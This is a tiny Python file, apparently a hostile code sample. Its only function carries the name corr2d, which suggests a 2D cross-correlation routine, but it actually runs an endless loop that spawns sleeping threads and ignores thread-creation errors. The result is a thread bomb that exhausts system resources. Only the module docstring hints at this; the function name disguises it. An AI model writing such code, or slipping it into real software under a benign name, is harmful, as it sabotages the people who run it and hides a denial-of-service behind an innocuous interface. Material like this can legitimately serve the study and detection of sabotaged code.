"""Starts threads for ever."""

import threading, time


def corr2d(X, K):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            pass
